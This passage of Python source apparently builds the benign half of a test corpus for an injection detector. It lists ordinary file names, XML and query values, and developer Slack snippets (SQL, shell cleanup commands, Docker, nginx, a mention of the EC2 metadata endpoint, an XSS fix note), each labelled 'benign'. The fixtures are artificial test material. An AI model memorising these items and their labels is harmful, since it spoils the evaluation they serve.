        ("", "data export [2024].csv"), ("", "IMG_4821.HEIC"), ("", "notes.txt"), ("", "photo (1).jpeg"),
        ("", "Ann & Bob wedding.jpg"), ("", "invoice#1234.pdf"), ("", "2024-06-21_meeting-minutes.docx"),
        ("", "avatar.png"), ("", "Lebenslauf_Müller.pdf"), ("", "project-archive.zip"),
        ("", "boarding pass - LIS to CDG.pdf"), ("", "scan0001.pdf"), ("", "履歴書.pdf"),
    ],
    "xml_text": [
        ("", "Ann O'Neil"), ("", "Fish & Chips"), ("", "Order #1234 - 2 items"), ("", "Zoë Müller"),
        ("", "5 < 10 and 10 > 5"), ("", "ann@example.org"), ("", "Café de Flore, 172 Bd Saint-Germain"),
        ("", "He said \"hello\""), ("", "R&D / Platform"), ("", "2024-06-21T10:15:00Z"), ("", "Tour Eiffel"),
        ("", "coffee & tea shops"), ("", "C++ developer"), ("", "100% cotton"), ("", "Line one\nLine two"),
        ("", "Smith & Sons, Ltd."), ("", "São Paulo"), ("", "meeting @ 5pm"),
    ],
    "xml_attr": [
        ("name", "O'Brien"), ("company", "Ben & Jerry's"), ("city", "Saint-Étienne"), ("email", "ann@example.org"),
        ("title", 'The "Best" Team'), ("q", "coffee & tea"), ("tag", "c#"), ("size", "10 < x < 20"),
        ("role", "admin"), ("status", "in progress"), ("sort", "-created_at"), ("lang", "fr-CA"),
        ("note", "see p. 12; fig. 3"), ("price", "€12.99"), ("name", "Nguyễn Văn An"), ("department", "R&D"),
        ("country", "Côte d'Ivoire"), ("query", "rock 'n' roll"),
    ],
    "get_body": [
        ("q", "O'Reilly"), ("name", "Ann Smith"), ("email", "ann@example.org"), ("q", "coffee & tea"),
        ("city", "Zürich"), ("filter", "status:active AND role:admin"), ("q", "what's new in 3.2?"),
        ("sort", "-created_at"), ("tag", "c++"), ("q", "1/2 price offers"), ("team", "R&D"),
        ("near", "48.8566,2.3522"), ("q", "select all users in my team"), ("since", "2024-06-01T00:00:00Z"),
        ("title", "Q3 report (final)"), ("q", "日本 旅行"), ("fields", "name,email"), ("q", "\"exact match\""),
    ],
}

# Developers pasting code into Slack (the same text later saved as a bio).
DEV_CODE: list[str] = [
    "quick q: why does this return dupes?\n```SELECT u.id, u.email FROM users u LEFT JOIN orders o ON o.user_id "
    "= u.id WHERE o.created_at > now() - interval '30 days';```",
    "fixed it with `SELECT DISTINCT ON (u.id) ...` thanks @ann",
    "migration for tomorrow:\n```ALTER TABLE users ADD COLUMN last_seen_at timestamptz;\nCREATE INDEX "
    "CONCURRENTLY idx_users_last_seen ON users (last_seen_at);```",
    "to clean the staging db run `DELETE FROM sessions WHERE expires_at < now();` not TRUNCATE pls",
    "anyone know why `UNION ALL` is faster than `UNION` here? oh right, the second one sorts",
    "repro: `curl -s -H 'Authorization: Bearer $TOKEN' https://api.example.com/v1/users?limit=5 | jq '.[].email'`",
    "`kubectl -n prod logs deploy/jeeves --since=10m | grep -i error | head -50`",
    "disk full again on build-3, ran `sudo du -sh /var/lib/docker/* | sort -h | tail` and `docker system prune -af`",
    "```for f in *.csv; do iconv -f latin1 -t utf-8 \"$f\" > \"utf8/$f\"; done```",
    "use `find . -name '*.pyc' -delete` before rebuilding",
    "`git rebase -i HEAD~3` then squash, then `git push --force-with-lease`",
    "the cron is `0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1`",
    "python one-liner for the csv: `python3 -c \"import csv,sys; print(sum(1 for _ in csv.reader(open(sys.argv[1]))))"
    "\" users.csv`",
    "```import subprocess\nout = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True)"
    ".stdout.strip()```",
    "don't use `eval()` on the config, use `ast.literal_eval` or just `json.loads`",
    "```with open('/etc/hosts') as fh:\n    for line in fh:\n        print(line.rstrip())```",
    "JS:\n```const user = await fetch(`/api/users/${id}`).then(r => r.json());\n"
    "document.getElementById('name').textContent = user.name;```",
    "react warning again: `<button onClick={() => setOpen(!open)}>Toggle</button>` inside a form submits it, "
    "add type=\"button\"",
    "we should drop `dangerouslySetInnerHTML` in Bio.tsx and render markdown instead",
    "the template has `<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script>` in the head, move it to the "
    "bundle",
    "```<img src=\"{{ user.avatar_url }}\" alt=\"{{ user.name }}\" onerror=\"this.src='/static/default.png'\">```",
    "jinja: `{% for u in users %}{{ u.name|e }}{% endfor %}` and `{{ config.DEBUG }}` shows False in prod",
    "php legacy bit:\n```$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n"
    "$stmt->execute([$_POST['email']]);```",
    "found `<?php echo htmlspecialchars($name, ENT_QUOTES); ?>` in the old admin, at least it escapes",
    "java:\n```Process p = new ProcessBuilder(\"ls\", \"-la\").start();```\nis what the old exporter does, let's "
    "replace it",
    "stack trace: `java.lang.NullPointerException at com.example.jeeves.UserService.find(UserService.java:42)`",
    "log4j is 2.17.1 everywhere now, so the JNDI lookup thing from 2021 is patched",
    "Dockerfile:\n```FROM python:3.11-slim\nRUN apt-get update && apt-get install -y curl && rm -rf "
    "/var/lib/apt/lists/*\nCOPY . /app\nCMD [\"gunicorn\", \"app:app\"]```",
    "nginx:\n```location /api/ {\n  proxy_pass http://127.0.0.1:8080;\n  proxy_set_header X-Forwarded-For "
    "$proxy_add_x_forwarded_for;\n}```",
    "regex for ticket ids: `^[A-Z]{2,5}-\\d+$`",
    "```SELECT count(*) FROM events WHERE payload->>'type' = 'signup' AND ts BETWEEN '2024-06-01' AND "
    "'2024-06-30';```",
    "mongo: `db.users.find({ age: { $gt: 30 } }).sort({ name: 1 }).limit(10)`",
    "node:\n```const { execFile } = require('child_process');\nexecFile('convert', [input, '-resize', '200x200', "
    "output], cb);```",
    "`npm ci && npm run build -- --mode=production`",
    "powershell for the windows runner: `Get-ChildItem -Path C:\\build -Recurse | Remove-Item -Force`",
    "bash: `if [ -f .env ]; then export $(grep -v '^#' .env | xargs); fi`",
    "redis: `redis-cli -h 127.0.0.1 -p 6379 --scan --pattern 'session:*' | wc -l`",
    "the metadata endpoint is http://169.254.169.254/latest/meta-data/ on EC2, please switch to IMDSv2 tokens",
    "ruby: `User.where(\"email LIKE ?\", \"%#{q}%\").order(:created_at).limit(20)`",
    "```def __repr__(self):\n    return f\"<User {self.id} {self.email!r}>\"```",
    "YAML gotcha: `on: [push]` parses `on` as true in yaml 1.1",
    "spring: `@Value(\"${app.timeout:30}\") private int timeout;`",
    "`awk -F, '{s+=$3} END {print s}' sales.csv`",
    "`ssh -L 5432:db.internal:5432 bastion` then psql against localhost",
    "the XSS report was about `<a href=\"javascript:...\">` links in bios, we now strip non-http(s) schemes",
]


def benign() -> Iterator[dict[str, Any]]:
    """The twenty parts with ordinary values (ids b14-benign-<part>-NNNN), then the developers' code as Slack
    messages and bios (ids b14-devcode-slack-NNNN / b14-devcode-bio-NNNN, sub "dev-code")."""
    g = 0
    for part, build in PARTS:
        for aux, text in BENIGN[part]:
            g += 1
            yield {**build(g, text, aux), "id": f"b14-benign-{part}-{g:04d}", "category": "benign",
                   "placement": part, "sub": part}
    n = 0
    for text in DEV_CODE:
        n += 1
        yield {**slack_message(_slack_escaped(text), n), "id": f"{DEV_CODE_PREFIX}-slack-{n:04d}",
               "category": "benign", "placement": "slack", "sub": "dev-code"}
        n += 1
        yield {**bio_request(text), "id": f"{DEV_CODE_PREFIX}-bio-{n:04d}", "category": "benign",
               "placement": "json", "sub": "dev-code"}
